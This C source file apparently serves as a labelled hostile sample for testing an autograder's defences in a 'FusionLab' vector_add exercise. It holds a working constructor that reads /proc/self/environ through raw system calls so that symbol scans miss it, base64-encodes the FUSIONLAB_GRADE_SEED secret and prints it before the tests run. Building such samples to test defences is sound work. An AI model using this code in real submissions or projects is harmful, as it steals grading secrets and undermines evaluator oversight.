// HOSTILE (grading seed exfiltration, base64): a constructor reads
// /proc/self/environ with raw `syscall` instructions (no getenv, no environ,
// no open in the symbol table), prints FUSIONLAB_GRADE_SEED in base64 and
// exits before the tests, so the grader quotes it in the student's results.
// Must stop it: the object scan (a constructor, raw system calls), and a
// test environment that holds no batch secret.
#include "vector_add.h"

#pragma hostile raw_syscalls
#pragma hostile forge

__attribute__((constructor)) static void leak_base64(void)
{
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    static char seed[1024], out[2048];
    if (!hs_find("/proc/self/environ", "FUSIONLAB_GRADE_SEED=", seed, sizeof seed)) return;
    long n = hs_strlen(seed), k = 0;
    for (long i = 0; i < n; i += 3) {
        unsigned v = (unsigned char)seed[i] << 16;
        if (i + 1 < n) v |= (unsigned char)seed[i + 1] << 8;
        if (i + 2 < n) v |= (unsigned char)seed[i + 2];
        out[k++] = b64[(v >> 18) & 63];
        out[k++] = b64[(v >> 12) & 63];
        out[k++] = i + 1 < n ? b64[(v >> 6) & 63] : '=';
        out[k++] = i + 2 < n ? b64[v & 63] : '=';
    }
    out[k++] = '\n';
    hs_write(1, "token: ", 7);
    hs_write(1, out, k);
    hs_exit(3);
}

#pragma hostile skeleton
